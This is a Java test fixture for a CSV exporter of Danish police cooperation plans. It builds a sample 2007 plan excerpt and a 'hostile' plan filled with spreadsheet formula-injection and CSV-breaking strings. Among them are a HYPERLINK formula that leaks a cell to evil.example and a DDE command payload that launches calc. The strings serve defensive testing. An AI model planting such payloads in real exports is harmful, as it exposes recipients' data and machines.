package dk.samarbejdsplan.export.csv;

import dk.samarbejdsplan.model.Category;
import dk.samarbejdsplan.model.CooperationPlan;
import dk.samarbejdsplan.model.Forum;
import dk.samarbejdsplan.model.LocalUnit;
import dk.samarbejdsplan.model.Meeting;
import dk.samarbejdsplan.model.MeetingStatus;
import dk.samarbejdsplan.model.Municipality;
import dk.samarbejdsplan.model.PlanStatus;
import dk.samarbejdsplan.model.PoliceDistrict;
import dk.samarbejdsplan.model.Section;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;

/** Plans built by hand for the tests: a small excerpt of the 2007 plan, and one full of hostile cells. */
final class HandBuiltPlans {
    private HandBuiltPlans() {
    }

    /** Category 1 and 2 of the 2007 plan (seed, Bilag 1), with the lokalråd meetings of Greve and Holbæk. */
    static CooperationPlan excerpt2007() {
        Forum kredsraadet = Forum.builder().id("kredsraadet")
                .name("Kredsrådet for Midt- og Vestsjællands Politi")
                .topic("Almindelige spørgsmål vedrørende politiets virksomhed i kredsen m.v.")
                .representative("Politidirektøren og borgmestrene i de kommuner, der geografisk indgår i "
                        + "politikredsen.")
                .frequency("Min. 4").interfaces(List.of("lokalraadene")).build();
        Forum lokalraad = Forum.builder().id("lokalraadene").name("Lokalrådene i de enkelte kommuner")
                .topic("Spørgsmål vedrørende politiets kriminalitetsbekæmpende og kriminalpræventive indsats i "
                        + "lokalområdet m.v.")
                .representatives(List.of("Lederne af lokalpolitienhederne", "repræsentanter for kommunerne",
                        "repræsentanter for det øvrige lokalsamfund"))
                .frequency("Min. 4 (2 i 2007)")
                .actionPlan("Der er udarbejdet en handleplan for arbejdet i hvert enkelt lokalråd.\n\n"
                        + "I 2007 vil lokalrådene hovedsageligt have til opgave at konstituere sig.")
                .localUnit(LocalUnit.of(new Municipality("253", "Greve"), List.of(
                        Meeting.on(LocalDate.of(2007, 10, 26)), Meeting.on(LocalDate.of(2007, 11, 14)))))
                .localUnit(new LocalUnit(new Municipality("316", "Holbæk"), List.of(
                        new Meeting(LocalDate.of(2007, 9, 26), Optional.of(MeetingStatus.HELD)),
                        new Meeting(LocalDate.of(2007, 11, 7), Optional.of(MeetingStatus.PLANNED))),
                        Optional.of("Egen handleplan.")))
                .build();
        Forum staben = Forum.builder().id("beredskabsstaben-strategisk").name("Beredskabsstaben (strategisk niveau)")
                .topic("Samarbejdet mellem totalforsvaret (herunder hjemmeværn og politihjemmeværn), "
                        + "beredskabsregion og politi.")
                .representatives(List.of("Politidirektøren", "chefpolitiinspektøren"))
                .frequency("Ad hoc").build();
        Forum region = Forum.builder().id("region-sjaelland").name("Møder med Region Sjællands "
                        + "Sundhedsberedskabs- og præhospitale udvalg")
                .topic("Samarbejdet mellem politikredsen og Region Sjælland på udvalgets område")
                .representative("Liniechefen for beredskabet og repræsentant for Region Sjælland")
                .frequency("2-3").build();
        Forum statusmoeder = Forum.builder().id("statusmoeder").name("Ugentligt statusmøder i nogle kommuner")
                .topic("Synliggørelse af uhensigtsmæssig adfærd.")
                .representative("SSP-konsulenter").frequency("52").build();
        Forum trafik = Forum.builder().id("trafiksikkerhedsudvalg").name("Møder i lokale trafiksikkerhedsudvalg.")
                .topic("Lokale initiativer vedr. færdselssikkerhed").representative("Lederne")
                .frequency("Besluttet lokalt").build();
        return CooperationPlan.builder()
                .district(PoliceDistrict.of("Midt- og Vestsjællands Politi", "1467"))
                .year(2007).status(PlanStatus.ADOPTED)
                .subtitle("En plan for samarbejdet mellem Midt- og Vestsjællands Politi, kommunerne, m.v.")
                .section(Section.of("Indledning", "Politiet har en lang tradition."))
                .category("kontakt-med-lokalsamfundet", "Kontakt med lokalsamfundet m.v.",
                        List.of(kredsraadet, lokalraad))
                .category("beredskab", "Beredskab", List.of(staben, region, statusmoeder))
                .category("trafiksikkerhed", "Trafiksikkerhed", List.of(trafik))
                .build();
    }

    /** The texts a spreadsheet might take for a formula, or that break a naive CSV writer. */
    static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik\")",
            "+1", "-2", "@SUM(A1:A9)", "\t=1", "\r=1", "=1+1", "-", "+", "@",
            "say \"hi\"", "\"", "\"\"", "a;b", "a,b", "a\nb", "a\r\nb", "a\rb", "line one\n\nline two",
            " leading space", "trailing space ", " ", "'already quoted", "æøå ÆØÅ", "👮‍♀️ 🇩🇰",
            "1e3", "0123", "2007-10-26", "; ;", ",,,", "\n", "x\t=1");

    /** A plan whose every text cell is hostile. */
    static CooperationPlan hostile() {
        List<String> h = HOSTILE;
        java.util.List<Forum> forums = new java.util.ArrayList<>();
        for (int i = 0; i < h.size(); i++) {
            String s = h.get(i);
            forums.add(Forum.builder().id("f" + i).name(s).topic(h.get((i + 1) % h.size()))
                    .representatives(List.of(s, h.get((i + 2) % h.size())))
                    .frequency(i % 2 == 0 ? "Min. 4" : "Ad hoc")
                    .termsOfReference(s).goals(List.of(s)).actionPlan(h.get((i + 3) % h.size()))
                    .interfaces(List.of("f" + ((i + 1) % h.size()))).notes(List.of(s, s))
                    .localUnit(new LocalUnit(new Municipality(i % 3 == 0 ? "-12" : "253", s),
                            List.of(Meeting.on(LocalDate.of(2007, 1 + i % 12, 1))), Optional.empty()))
                    .build());
        }
        return CooperationPlan.builder().district(PoliceDistrict.of("=cmd|' /C calc'!A0")).year(2007)
                .category("hostile", "=HYPERLINK(\"x\")", forums.subList(0, 10))
                .category("more", "-2", forums.subList(10, forums.size()))
                .build();
    }
}
